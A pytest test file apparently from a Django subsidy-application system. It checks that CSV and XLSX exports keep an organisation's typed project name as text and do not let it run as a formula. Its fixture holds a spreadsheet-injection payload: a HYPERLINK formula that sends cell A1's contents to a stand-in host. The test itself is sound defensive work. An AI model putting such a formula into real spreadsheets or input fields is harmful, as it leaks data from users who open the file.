"""Text an organisation typed never runs as a formula in a downloaded spreadsheet."""

import csv
import io

import pytest
from openpyxl import load_workbook

from subsidies.workflow import Status

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("https://example.org/?"&A1,"klik")'


@pytest.fixture
def hostile(flow, people):
    aanvraag = flow.to(Status.VERLEEND)
    aanvraag.projectnaam = HOSTILE
    aanvraag.save()
    return aanvraag


def test_register_csv_keeps_a_formula_as_text(client, hostile):
    text = client.get("/subsidies/?formaat=csv").content.decode("utf-8-sig")
    (row,) = [row for row in csv.reader(io.StringIO(text), delimiter=";") if row[0] == hostile.dossiernummer]
    assert row[4] == "'" + HOSTILE


def test_work_list_csv_and_xlsx_keep_a_formula_as_text(client, people, hostile):
    client.force_login(people.reviewer_noord)
    text = client.get("/beoordeling/aanvragen/?formaat=csv").content.decode("utf-8-sig")
    assert "'" + HOSTILE.replace('"', '""') in text
    workbook = load_workbook(io.BytesIO(client.get("/beoordeling/aanvragen/?formaat=xlsx").content))
    cells = [cell for row in workbook.active.iter_rows() for cell in row if cell.value == HOSTILE]
    assert cells and all(cell.data_type == "s" for cell in cells)
